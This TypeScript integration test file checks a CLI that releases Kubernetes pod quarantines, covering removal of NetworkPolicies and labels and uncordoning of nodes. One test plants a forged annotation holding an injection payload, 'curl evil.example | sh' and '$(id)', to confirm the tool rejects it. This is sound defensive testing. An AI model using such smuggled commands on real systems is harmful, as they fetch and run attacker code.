/**
 * Releasing a pod quarantine with an operator's credentials, against the real
 * kube-apiserver: contain (label, NetworkPolicy, cordon), then `release eks` undoes all of
 * it from what was recorded on the objects.
 */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { CoreV1Api, NetworkingV1Api } from '@kubernetes/client-node';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseContainmentRequest } from '../../shared/containment.js';
import { CORDONED_LABEL, QUARANTINE_LABEL, networkPolicyName } from '../../shared/labels.js';
import { containPodIn } from '../../functions/isolate-pod/contain.js';
import { DETACHED_LABELS_ANNOTATION } from '../../functions/isolate-pod/annotations.js';
import { MERGE_PATCH } from '../../functions/isolate-pod/kube.js';
import { undoPodQuarantine, UndoError } from '../../functions/isolate-pod/undo.js';
import { adminKubeConfig, statusOf } from './k8s-helpers.js';
import { integrationEnv, uniqueName } from './test-env.js';

const admin = () => adminKubeConfig();
let core: CoreV1Api;
let networking: NetworkingV1Api;

beforeAll(() => {
  integrationEnv();
  core = admin().makeApiClient(CoreV1Api);
  networking = admin().makeApiClient(NetworkingV1Api);
});

async function quarantinedPod() {
  const namespace = uniqueName('rel');
  const node = uniqueName('node');
  const pod = uniqueName('web');
  await core.createNamespace({ body: { metadata: { name: namespace } } });
  await core.createNode({ body: { metadata: { name: node } } });
  await core.createNamespacedPod({
    namespace,
    body: {
      metadata: { name: pod, labels: { app: 'web' } },
      spec: { nodeName: node, containers: [{ name: 'web', image: 'nginx' }] },
    },
  });
  const request = parseContainmentRequest(
    {
      version: 1,
      findingId: randomBytes(16).toString('hex'),
      findingType: 'PrivilegeEscalation:Runtime/RuncContainerEscape',
      severity: 8,
      accountId: '123456789012',
      region: 'us-east-1',
      target: {
        surface: 'eks-pod',
        clusterName: 'test',
        namespace,
        podName: pod,
        containerIds: [],
      },
      actions: ['eks:label-pod', 'eks:isolate-pod-network', 'eks:cordon-node'],
      hostCompromise: true,
      dryRun: false,
      exemptionKey: 'guardduty-responder/exempt',
      eks: { allowDnsEgress: false, maxCordonedNodes: 1000, protectedNamespaces: ['kube-system'] },
    },
    'eks-pod',
  );
  const result = await containPodIn(request, () => Promise.resolve(admin()));
  expect(result.outcomes.map((o) => o.status)).toEqual(['contained', 'contained', 'contained']);
  return { namespace, node, pod };
}

const ROOT = join(import.meta.dirname, '..', '..');

/** `npm run release -- eks <target>` with the test cluster's admin kubeconfig. */
const releaseCli = (target: string) =>
  spawnSync(
    process.execPath,
    [
      '--import',
      'tsx',
      'scripts/release.ts',
      'eks',
      target,
      '--kubeconfig',
      integrationEnv().KUBECONFIG,
    ],
    { cwd: ROOT, encoding: 'utf8' },
  );

describe('release eks', () => {
  it('removes the NetworkPolicy and the label, and uncordons the node it cordoned', async () => {
    const { namespace, node, pod } = await quarantinedPod();
    const uid = (await core.readNamespacedPod({ name: pod, namespace })).metadata!.uid!;
    expect((await core.readNode({ name: node })).spec?.unschedulable).toBe(true);

    const report = await undoPodQuarantine(admin(), namespace, pod);
    expect(report.problems).toEqual([]);
    expect(
      await statusOf(
        networking.readNamespacedNetworkPolicy({ name: networkPolicyName(uid), namespace }),
      ),
    ).toBe(404);
    const after = await core.readNamespacedPod({ name: pod, namespace });
    expect(after.metadata?.labels?.[QUARANTINE_LABEL]).toBeUndefined();
    expect(after.metadata?.labels?.app).toBe('web');
    const nodeAfter = await core.readNode({ name: node });
    expect(nodeAfter.spec?.unschedulable ?? false).toBe(false);
    expect(nodeAfter.metadata?.labels?.[CORDONED_LABEL]).toBeUndefined();

    await expect(undoPodQuarantine(admin(), namespace, pod)).rejects.toThrow(UndoError);
  });

  it('the CLI does the same with the kubeconfig it is given', async () => {
    const { namespace, pod } = await quarantinedPod();
    const run = releaseCli(`${namespace}/${pod}`);
    expect(run.status, run.stderr).toBe(0);
    expect(run.stdout).toContain(`released ${namespace}/${pod}`);
    const refused = spawnSync(
      process.execPath,
      ['--import', 'tsx', 'scripts/release.ts', 'eks', 'Bad_Name/x'],
      { cwd: ROOT, encoding: 'utf8' },
    );
    expect(refused.status).toBe(2);
  });

  it('a forged detached-labels record: the CLI refuses, says why, and changes nothing', async () => {
    const { namespace, node, pod } = await quarantinedPod();
    const record = '{"app":"web; curl evil.example | sh","$(id)":"x"}';
    await core.patchNamespacedPod(
      {
        name: pod,
        namespace,
        body: { metadata: { annotations: { [DETACHED_LABELS_ANNOTATION]: record } } },
      },
      MERGE_PATCH,
    );
    const run = releaseCli(`${namespace}/${pod}`);
    expect(run.status, run.stderr).toBe(1);
    expect(run.stderr).toContain(
      `release: pod ${namespace}/${pod}: the detached-labels record on the pod is invalid (label value "web; curl evil.example | sh" is invalid): restore the pod's labels by hand, remove the annotation ${DETACHED_LABELS_ANNOTATION} and run release again (nothing was changed)`,
    );
    expect(run.stderr).not.toMatch(/^\s+at /m);
    expect(run.stdout).toBe('');

    const after = await core.readNamespacedPod({ name: pod, namespace });
    const uid = after.metadata!.uid!;
    expect(after.metadata?.labels?.[QUARANTINE_LABEL]).toBe(uid);
    expect(after.metadata?.labels?.app).toBe('web');
    expect(
      await statusOf(
        networking.readNamespacedNetworkPolicy({ name: networkPolicyName(uid), namespace }),
      ),
    ).toBe(200);
    expect((await core.readNode({ name: node })).spec?.unschedulable).toBe(true);
    await expect(undoPodQuarantine(admin(), namespace, pod)).rejects.toThrow(UndoError);
  });
});
